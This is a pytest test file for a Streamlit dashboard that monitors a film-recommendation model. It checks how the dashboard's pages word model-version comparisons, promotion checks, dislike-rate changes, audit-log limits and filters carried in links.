def test_a_first_version_kept_back_is_set_beside_the_prior_model_on_the_retrain_page(own_db):
    from feedback_core.versions import insert_version

    figures = {"auc": 0.41, "log_loss": 0.7, "accuracy": 0.6, "held_out": 120, "since": None}
    with own_db.engine.begin() as conn:
        conn.execute(update(model_versions).values(status="retired", active_slot=None))
        candidate = insert_version(
            conn,
            at=own_db.now(),
            actor="system",
            trigger="manual",
            parent_id=None,
            weights={"coefficients": {}, "intercept": 0.0},
            metrics={
                **figures,
                "candidate_on_same_holdout": figures,
                "active_on_same_holdout": {**figures, "auc": 0.55},
                "promotion": {"promoted": False, "reason": "first version, but worse than the prior model"},
            },
            examples={},
            settings={},
        )
    data.refresh()
    at = open_page("retrain")
    shown = table(at, "metric", "prior model", f"v{candidate}")
    auc = shown[shown["metric"] == "AUC (higher is better)"].iloc[0]
    assert (auc["prior model"], auc[f"v{candidate}"]) == (0.55, 0.41)
    log_loss = shown[shown["metric"] == "log loss (lower is better)"].iloc[0]
    assert log_loss[f"v{candidate}"] == 0.7
    assert any(
        c.value.startswith(
            f"No version was active when v{candidate} was trained: it was set beside the prior model, "
            "which served meanwhile, on the 120 examples known then"
        )
        for c in at.caption
    )
    assert "Promotion check at training: first version, but worse than the prior model" in [
        t.value for t in at.text
    ]


def test_comparison_tables_name_their_metrics_and_leave_no_model_differences_out():
    table = pd.DataFrame(
        {
            "metric": ["auc", "log_loss", "accuracy", "accuracy_baseline", "dislike_top10_share"],
            "a": [0.6, 0.5, 0.8, 0.82, 0.3],
            "b": [0.62, 0.48, 0.81, 0.83, 0.2],
            "difference": [0.02, -0.02, 0.01, 0.01, -0.1],
        }
    )
    named = ui.named_metrics(table)
    assert list(named["metric"]) == [
        "AUC (higher is better)",
        "log loss (lower is better)",
        "accuracy",
        "accuracy, no model (always the commoner label)",
        "share of held-out dislikes still in a top 10 (lower is better)",
    ]
    assert named["difference"].isna().tolist() == [False, False, False, True, False]


def test_the_registry_flags_versions_no_more_accurate_than_no_model(own_db):
    with own_db.engine.begin() as conn:
        row = conn.execute(select(model_versions.c.version_id, model_versions.c.metrics)).first()
        conn.execute(
            update(model_versions)
            .where(model_versions.c.version_id == row.version_id)
            .values(metrics={**(row.metrics or {}), "accuracy": 0.80, "accuracy_baseline": 0.84})
        )
    data.refresh()
    at = open_page("versions")
    (flag,) = [w.value for w in at.warning if w.value.startswith("No more accurate than")]
    assert f"v{row.version_id} (accuracy 0.8000 vs 0.8400)" in flag
    # Every version: said in a word, not named one by one.
    with own_db.engine.begin() as conn:
        worse_than_no_model_everywhere(conn)
    count = len(own_db.list_model_versions())
    data.refresh()
    at = open_page("versions")
    (flag,) = [w.value for w in at.warning if w.value.startswith("No more accurate than")]
    assert f"rows: all {count} versions." in flag and "(accuracy" not in flag
    assert any(
        i.value.startswith(f"Barely better than chance (AUC under 0.55): all {count} versions.")
        for i in at.info
    )


def worse_than_no_model_everywhere(conn) -> None:
    """Give every recorded version figures no better than the no-model baseline, near chance."""
    for version_id, metrics in conn.execute(
        select(model_versions.c.version_id, model_versions.c.metrics)
    ).all():
        conn.execute(
            update(model_versions)
            .where(model_versions.c.version_id == version_id)
            .values(metrics={**(metrics or {}), "accuracy": 0.80, "accuracy_baseline": 0.84, "auc": 0.52})
        )


def test_all_versions_in_a_warning_are_those_measured_when_some_record_no_figures(own_db):
    """ "all 3 versions" with four in the registry would say the fourth is one of them."""
    from feedback_core.versions import insert_version

    active = own_db.get_active_model_version()
    with write_transaction(own_db.engine) as conn:
        worse_than_no_model_everywhere(conn)
        insert_version(
            conn,
            at=own_db.now(),
            actor="t",
            trigger="manual",
            parent_id=active["version_id"],
            weights=active["weights"],
            metrics={},  # recorded without offline figures
            examples={},
            settings={},
        )
    count = len(own_db.list_model_versions())
    data.refresh()
    at = open_page("versions")
    (flag,) = [w.value for w in at.warning if w.value.startswith("No more accurate than")]
    assert f"rows: all {count - 1} versions measured (of {count})." in flag
    assert any(f"all {count - 1} versions measured (of {count})." in i.value for i in at.info)


def test_same_examples_without_a_count_read_without_a_gap(own_db):

    active = own_db.get_active_model_version()
    candidate = add_version(
        own_db,
        active["version_id"],
        {
            "active_on_same_holdout": {"auc": 0.61},  # no held_out recorded
            "candidate_on_same_holdout": {"auc": 0.64},
            "auc_gain": {"difference": 0.03, "low": 0.01, "high": 0.05, "p_value": 0.002},
        },
        weights=active["weights"],
    )
    data.refresh()
    page = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    page.session_state["compare_b"] = candidate
    at = open_page("versions", page.run())
    assert any(c.value.startswith("Offline, on the same held-out examples (below)") for c in at.caption)
    assert any("measured on the examples" in m.value for m in at.markdown)


def test_overview_says_how_much_of_the_window_before_has_data(shared_db):
    at = open_page("overview")
    bounds = queries.get_data_bounds(shared_db)
    first, last = bounds["first_day"], bounds["last_day"]
    start = first + timedelta(days=2)
    at.session_state["filter_dates"] = (start, last)
    at.run()
    overview = queries.get_overview(shared_db, start, last)
    days = (last - start).days + 1
    covered = overview["previous"]["days_with_impressions"]
    assert 0 < covered < days
    # "Compared with the 8 days before" read as eight days of data when two had any.
    heading = at.caption[0].value
    assert heading.endswith(f"compared with the {days} days before (impressions on {covered} of them)"), (
        heading
    )
    at.session_state["filter_dates"] = (first + timedelta(days=1), first + timedelta(days=1))
    at.run()
    assert at.caption[0].value.endswith("compared with the day before")
    # From the data's first day: the days before hold nothing, and the heading says so.
    at.session_state["filter_dates"] = (first, last)
    at.run()
    assert at.caption[0].value.endswith("days before (no impressions in them)"), at.caption[0].value


def test_overview_names_mixed_versions_only_when_more_than_one_is_shown(shared_db):
    # The sample activates v2 in the week before its latest settled day: both versions served.
    at = open_page("overview")
    mixed = "The rates mix the versions that served"

    def says_mixed() -> bool:
        return any(mixed in c.value for c in at.caption)

    assert says_mixed()
    at.session_state["filter_versions"] = [2]  # one version's rates are its own
    at.run()
    assert not says_mixed()


def test_rollback_and_a_candidate_judged_no_better_are_not_the_pages_main_action(own_db):
    at = open_page("versions")
    assert at.button(key="activate_version").proto.type == "secondary"
    done = own_db.retrain("cli")
    version = own_db.get_model_version(done["result_version_id"])
    promoted = version["metrics"]["promotion"]["promoted"]
    at = open_page("retrain")
    button = at.button(key="promote_candidate")
    assert button.proto.type == ("primary" if promoted else "secondary")
    advice = f"Training did not promote v{version['version_id']}: the note above says why. Read it before promoting."
    assert any(c.value == advice for c in at.caption) == (not promoted)
    assert not promoted  # the sample's retrain finds no better version: the case this guards
    # The dialog repeats why training did not promote it and the gain it measured: the question
    # alone read as routine.
    button.click().run()
    note = version["metrics"]["promotion"]["reason"]
    (question,) = [
        t.value for t in at.text if t.value.startswith(f"Training did not promote v{version['version_id']}")
    ]
    assert note in question and "AUC gain per (user, film)" in question
    assert "its effect on the dislike rate is unknown" in question
    assert question.endswith("can be restored from the Model versions page.")


def test_the_audit_page_says_when_older_records_match_too(own_db):
    from feedback_core.recording import write_audit

    with write_transaction(own_db.engine) as conn:
        for i in range(1001):
            write_audit(
                conn,
                at=own_db.now() - timedelta(seconds=i),
                actor="ops@example.com",
                action="model.activated",
                entity_type="model_version",
                entity_id=1,
                details={},
            )
    data.refresh()
    at = open_page("audit")
    assert len(table(at, "actor", "action", "outcome")) == 1000
    assert any(c.value.startswith("The newest 1,000 of the records that match") for c in at.caption)
    # Exactly 1,000 match: all are shown, and nothing is said to be left out.
    with write_transaction(own_db.engine) as conn:
        oldest = conn.execute(select(func.min(audit_log.c.audit_id))).scalar_one()
        conn.execute(delete(audit_log).where(audit_log.c.audit_id == oldest))
    data.refresh()
    at = open_page("audit")
    assert len(table(at, "actor", "action", "outcome")) == 1000
    assert any(c.value == "1,000 records, newest first." for c in at.caption), [c.value for c in at.caption]


def test_counts_of_dislikes_are_drawn_on_whole_ticks():
    # A person's one or two dislikes per reason were drawn on ticks of 0.1.
    few = pd.DataFrame({"reason": ["wrong_genre", "other"], "dislikes": [2, 1], "share": [2 / 3, 1 / 3]})
    axis = charts.reason_bar_chart(few).to_dict()["encoding"]["x"]["axis"]
    assert (axis["tickMinStep"], axis["format"]) == (1, ",d")


def test_the_confident_mistakes_say_the_sidebar_does_not_apply_to_them(shared_db):
    at = open_page("errors")
    assert "Most confident mistakes, all time" in [h.value for h in at.subheader]
    assert any("do not apply to this list" in c.value for c in at.caption)


def test_the_overview_shows_the_proposals_waiting(shared_db):
    at = open_page("overview")
    waiting = lookups.count_adjustment_inbox(shared_db)
    assert waiting > 0 and metric(at, "Proposals waiting") == f"{waiting:,}"


def test_the_registry_shows_what_a_trained_version_learned_from(own_db):
    done = own_db.retrain("cli")
    version = own_db.get_model_version(done["result_version_id"])
    used = version["examples"]
    at = open_page("versions")
    registry = table(at, "version", "trained_on", "new_dislikes").set_index("version")
    row = registry.loc[f"v{version['version_id']}"]
    expected = sum(used[k] for k in queries.TRAINING_KINDS)
    assert expected > 0 and (row["trained_on"], row["new_dislikes"]) == (
        expected,
        used["new_negative_examples"],
    )


def test_the_rates_interval_mentions_days_still_counting_only_when_the_selection_has_some(own_db):
    bounds = queries.get_data_bounds(own_db)
    still = "(with days not settled, their lists still collecting dislikes)"

    def says_still(at) -> bool:
        return any(c.value.startswith("95% interval") and still in c.value for c in at.caption)

    at = open_page("overview")
    at.session_state["filter_dates"] = (bounds["first_day"], own_db.now().date())  # to today
    at.run()
    # The sample's last lists were shown yesterday, which has settled: nothing is still counting.
    assert not says_still(at)
    items = [{"movie_id": m, "predicted_score": 0.5} for m in range(1, 41)]
    own_db.record_recommendation_set(900, items, model_version_id=2)  # shown now, today
    data.refresh()
    at.run()
    assert says_still(at)
    at.session_state["filter_versions"] = [1]  # v1 stopped serving at the switch, days ago
    at.run()
    assert any(c.value.startswith("95% interval") for c in at.caption) and not says_still(at)


def test_the_charts_name_reasons_as_the_sidebar_does(shared_db):
    bounds = queries.get_data_bounds(shared_db)
    window = (bounds["first_day"], bounds["last_day"])
    bars = charts.reason_bar_chart(queries.list_reason_counts(shared_db, *window)).to_dict()
    trend = charts.reason_trend_chart(queries.list_reason_trend(shared_db, *window)).to_dict()
    heatmap = charts.reason_genre_heatmap(queries.list_reason_genre(shared_db, *window)).to_dict()
    label = charts.REASON_LABEL
    assert bars["encoding"]["y"]["axis"]["labelExpr"] == label
    assert trend["encoding"]["color"]["legend"]["labelExpr"] == label
    assert heatmap["layer"][0]["encoding"]["y"]["axis"]["labelExpr"] == label
    assert label == "replace(datum.label, regexp('_', 'g'), ' ')"  # "wrong_genre" -> "wrong genre"


def test_the_reasons_table_spans_the_page_below_its_two_charts(shared_db):
    at = open_page("reasons")
    # In the narrow left column, beside the chart, its rates were cut off.
    left, right = at.columns[0], at.columns[1]
    assert [h.value for h in left.subheader] == ["Distribution"] and [h.value for h in right.subheader] == [
        "Over time"
    ]
    assert len(left.dataframe) == len(right.dataframe) == 0
    assert "dislike_rate" in table(at, "reason", "dislike_rate").columns


def test_overview_takes_the_rate_change_over_the_windows_settled_days(own_db):
    from feedback_core import stats

    bounds = queries.get_data_bounds(own_db)
    first, today = bounds["first_day"], own_db.now().date()
    # Shown today, nothing disliked yet: the window's rate falls while today's lists still count.
    items = [{"movie_id": m, "predicted_score": 0.5} for m in range(1, 41)]
    for user in range(900, 920):
        own_db.record_recommendation_set(user, items, model_version_id=2)
    data.refresh()
    start = first + timedelta(days=4)
    at = open_page("overview")
    at.session_state["filter_dates"] = (start, today)
    at.run()
    last_settled = queries.last_settled_day(own_db.now())
    whole = queries.get_overview(own_db, start, today)
    settled = queries.get_overview(own_db, start, last_settled)["current"]
    before = whole["previous"]
    assert whole["current"]["dislike_rate"]["rate"] < settled["dislike_rate"]["rate"]  # today pulls it down
    (rate,) = (m for m in at.metric if m.label == "Dislike rate")
    outcome, test = stats.compare_rates(
        before["attributed_dislikes"],
        before["impressions"],
        settled["attributed_dislikes"],
        settled["impressions"],
    )
    points = (settled["dislike_rate"]["rate"] - before["dislike_rate"]["rate"]) * 100
    assert rate.delta.startswith(f"{points:+.2f} points"), rate.delta
    # And judged on those counts: the test's p, or "not significant".
    significant = outcome in ("lower", "higher")
    assert rate.delta.endswith(f"({ui.fmt_p(test.p_value)})" if significant else ", not significant")
    said = (
        f"The change: this window to {last_settled:%d %b} ({ui.fmt_pct(settled['dislike_rate']['rate'], 2)})"
    )
    assert any(c.value.startswith(said) for c in at.caption), [c.value for c in at.caption]


def test_the_retrain_page_shows_the_gain_its_promotion_check_judged(own_db):
    done = own_db.retrain("cli")
    version = own_db.get_model_version(done["result_version_id"])
    gain = version["metrics"]["auc_gain"]
    assert gain is not None and "low" in gain  # a candidate set beside v2 on the same examples
    at = open_page("retrain")
    shown = (
        f"AUC gain per (user, film), candidate − v2: {gain['difference']:+.4f} (95% interval "
        f"{gain['low']:+.4f} to {gain['high']:+.4f}, DeLong's test {ui.fmt_p(gain['p_value'])})."
    )
    assert shown in [c.value for c in at.caption], [c.value for c in at.caption]


def test_what_the_pages_say_of_the_window_before_a_promotion_and_the_inbox_filters():
    from dashboard import wording

    steady = {"proposed": 3, "approved": 1, "rejected": 0, "withdrawn": 2, "change": 0}
    assert wording.decided_recently(steady) == "1 approved · 0 rejected · 2 withdrawn with their dislike"
    assert wording.inbox_trend(steady, 7) == "Steady: as many left as came in."
    growing = {"proposed": 1000, "approved": 100, "rejected": 340, "withdrawn": 0, "change": 560}
    assert wording.decided_recently(growing) == "100 approved · 340 rejected"
    assert wording.inbox_trend(growing, 7) == "Growing by about 80 a day: more come in than are decided."
    catching_up = {**growing, "approved": 700, "rejected": 303, "change": -3}
    assert wording.inbox_trend(catching_up, 7) == "Shrinking by about 0.4 a day: approvers are catching up."
    # 1,000 came in and approvers decided 440: what shrank the inbox was not them.
    assert wording.inbox_trend({**growing, "withdrawn": 563, "change": -3}, 7) == (
        "Shrinking by about 0.4 a day, by proposals withdrawn or auto-approved, not by approvers."
    )

    assert wording.days_before(28, 28) == "the 28 days before"
    assert wording.days_before(28, 2) == "the 28 days before (impressions on 2 of them)"
    assert wording.days_before(28, 0) == "the 28 days before (no impressions in them)"
    assert wording.days_before(1, 0) == "the day before (no impressions)"
    assert wording.days_before(1, 1) == "the day before"
    gain = {"difference": -0.0018, "low": -0.007, "high": 0.0034, "p_value": 0.494}
    said = wording.fmt_gain(gain, "v8")
    assert said == (
        "AUC gain per (user, film), candidate − v8: -0.0018 (95% interval -0.0070 to +0.0034, "
        "DeLong's test p = 0.494)"
    )
    passed = wording.promotion_question("v11", "v8", True, "better", said)
    assert passed.startswith("Promote v11 to active?") and "AUC" not in passed
    doubted = wording.promotion_question("v11", "v8", False, "not better than v8 by the margin", said)
    assert doubted.startswith("Training did not promote v11: not better than v8 by the margin. AUC gain")
    assert doubted.endswith(passed)
    assert wording.promotion_question("v11", None, False, None, None).startswith(
        "Training did not promote v11. It"
    )
    assert (
        wording.inbox_filters_in_use(
            {"user_id": None, "feature": None, "reason": None, "min_evidence": 0, "within_days": None}
        )
        is None
    )
    assert wording.inbox_filters_in_use(
        {"user_id": 5, "feature": "horror", "reason": "wrong_genre", "min_evidence": 1000, "within_days": 7}
    ) == (
        "Filters in use: user 5 · feature 'horror' · reason wrong genre · at least 1,000 dislikes of it · "
        "last disliked within 7 days."
    )
    window = ui.Filters(datetime(2026, 11, 3).date(), datetime(2026, 11, 30).date(), (2, 0), ("wrong_genre",))
    assert window.describe() == "03 Nov 2026 – 30 Nov 2026 (28 days) · v2, no version · wrong genre"
    one = ui.Filters(datetime(2026, 11, 3).date(), datetime(2026, 11, 3).date(), (), ())
    assert one.describe() == "03 Nov 2026 · all versions · all reasons"


def test_the_reasons_page_says_its_window_and_how_much_of_the_window_before_has_data(shared_db):
    at = open_page("reasons")
    f = ui.Filters(*at.session_state["filter_dates"], (), ())
    assert at.caption[0].value == f.describe()
    bounds = queries.get_data_bounds(shared_db)
    first = bounds["first_day"]
    # A window starting two days after the data: the 8 days before have data on two of them.
    at.session_state["filter_dates"] = (first + timedelta(days=2), first + timedelta(days=9))
    at.run()
    assert not at.exception
    shown = queries.count_days_with_impressions(
        shared_db, first - timedelta(days=6), first + timedelta(days=1)
    )
    assert shown == 2
    names = column_labels(at, "rate_before")
    assert "the 8 days before (impressions on 2 of them)" in names, names
    at.session_state["filter_dates"] = (first + timedelta(days=9), first + timedelta(days=16))
    at.run()
    assert "the 8 days before" in column_labels(at, "rate_before")
    # Which films the window's dislikes were of, as the library counts them, said to be counts:
    # read when asked for (its expander opened), not on every view of the page.
    assert "top_reason" not in {c for d in at.dataframe for c in d.value.columns}
    at.session_state["reasons_films"] = True
    at.run()
    assert not at.exception
    ranked = lookups.list_disliked_films(shared_db, first + timedelta(days=9), first + timedelta(days=16))
    shown = table(at, "movie_id", "top_reason", "share")
    assert list(shown["movie_id"]) == list(ranked["films"]["movie_id"])
    assert list(shown["dislikes"]) == list(ranked["films"]["dislikes"])
    assert wording.films_ranked(ranked["counted"], False, len(shown)) in " ".join(c.value for c in at.caption)
    assert "Counts, not rates" in wording.films_ranked(10, True, 3)
    assert wording.films_ranked(10, True, 3).startswith("The 3 films with most of the newest 10 of")


def test_overview_counts_are_never_coloured_and_no_change_has_no_arrow(own_db):
    at = open_page("overview")
    first = queries.get_data_bounds(own_db)["first_day"]
    # Two covered, settled windows of a week each.
    at.session_state["filter_dates"] = (first + timedelta(days=7), first + timedelta(days=13))
    at.run()
    (dislikes,) = (m for m in at.metric if m.label == "Dislikes")
    assert dislikes.delta and type(dislikes.proto).MetricColor.Name(dislikes.proto.color) == "GRAY"
    (shown,) = (m for m in at.metric if m.label == "Impressions")
    # The sample shows as many lists every day: no change, and no arrow for it.
    assert shown.delta == "+0"
    assert type(shown.proto).MetricDirection.Name(shown.proto.direction) == "NONE"
    # A list more in the window: its arrow, and still no colour (a count, as the dislikes').
    items = [{"movie_id": m, "predicted_score": 0.5} for m in range(1, 11)]
    noon = datetime.combine(first + timedelta(days=10), time(12))
    own_db.record_recommendation_set(77, items, model_version_id=2, shown_at=noon)
    data.refresh()
    at.run()
    (shown,) = (m for m in at.metric if m.label == "Impressions")
    assert shown.delta == "+10"
    assert type(shown.proto).MetricDirection.Name(shown.proto.direction) == "UP"
    assert type(shown.proto).MetricColor.Name(shown.proto.color) == "GRAY"


def test_the_inbox_says_which_filters_its_list_answers(shared_db):
    at = open_page("adjustments")
    assert not any(c.value.startswith("Filters in use") for c in at.caption)
    at.number_input(key="inbox_evidence").set_value(1000).run()
    at.number_input(key="inbox_user").set_value(5).run()
    assert "Filters in use: user 5 · at least 1,000 dislikes of it." in [c.value for c in at.caption]


def test_a_link_carries_the_filters_and_the_address_follows_them(shared_db):
    first = queries.get_data_bounds(shared_db)["first_day"]
    start, end = first + timedelta(days=3), first + timedelta(days=12)
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.query_params["dates"] = [end.isoformat(), start.isoformat()]  # backwards: read forwards
    at.query_params["version"] = ["2", "999"]  # no version 999: left out
    at.query_params["reason"] = ["wrong_genre", "bogus"]
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert at.session_state["filter_dates"] == (start, end)
    assert at.session_state["filter_versions"] == [2]
    assert at.session_state["filter_reasons"] == ["wrong_genre"]
    assert f"Showing {ui.Filters(start, end, (), ()).window()}" in [c.value for c in at.sidebar.caption]
    # The address says what the page shows, and follows a change of the filters.
    assert at.query_params["dates"] == [start.isoformat(), end.isoformat()]
    assert at.query_params["version"] == "2" and at.query_params["reason"] == "wrong_genre"
    at.session_state["filter_reasons"] = []
    at.run()
    assert "reason" not in at.query_params
    # A page the filters do not apply to carries none.
    at.switch_page("app_pages/users.py").run()
    assert not {"dates", "version", "reason"} & set(at.query_params)
    # What a link names that is not in the data is left at its default, and said so.
    odd = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    odd.query_params["dates"] = ["1999-01-01", "1999-01-09"]
    odd.query_params["version"] = ["999"]
    odd.query_params["reason"] = ["wrong_genre"]
    odd.run()
    assert [w.value for w in odd.sidebar.warning] == [
        "The link's dates and versions could not be used (not in this data): left at the default."
    ]
    assert odd.session_state["filter_reasons"] == ["wrong_genre"]
    assert not at.sidebar.warning  # a link whose filters all apply: nothing said
    # Days outside the data's, or not days at all, leave the default window.
    for dates in (["1999-01-01", "1999-01-09"], ["not-a-day"], ["2026-11-01"] * 3):
        fresh = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
        fresh.query_params["dates"] = dates
        fresh.run()
        assert not fresh.exception
        bounds = queries.get_data_bounds(shared_db)
        last = bounds["last_day"]
        assert fresh.session_state["filter_dates"] == (
            max(bounds["first_day"], last - timedelta(days=27)),
            last,
        )


def test_the_address_is_written_once_per_change_of_the_filters(shared_db, monkeypatch):
    # Each message that changes the address is an entry in the browser's history: a run whose
    # filters did not change sends none, and a change sends one (not one per parameter).
    from streamlit.runtime.state.query_params import QueryParams

    sent = []
    real = QueryParams._send_query_param_msg
    monkeypatch.setattr(QueryParams, "_send_query_param_msg", lambda self: (sent.append(1), real(self)))
    at = AppTest.from_file(str(APP), default_timeout=TIMEOUT)
    at.query_params["version"] = "2"
    at.query_params["reason"] = "wrong_genre"
    at.run()
    assert not at.exception
    sent.clear()
    at.run()
    assert sent == []
    at.session_state["filter_versions"] = []
    at.session_state["filter_reasons"] = []
    at.run()
    assert len(sent) == 1 and not {"version", "reason"} & set(at.query_params)
    sent.clear()
    at.switch_page("app_pages/users.py").run()
    assert len(sent) == 1 and "dates" not in at.query_params
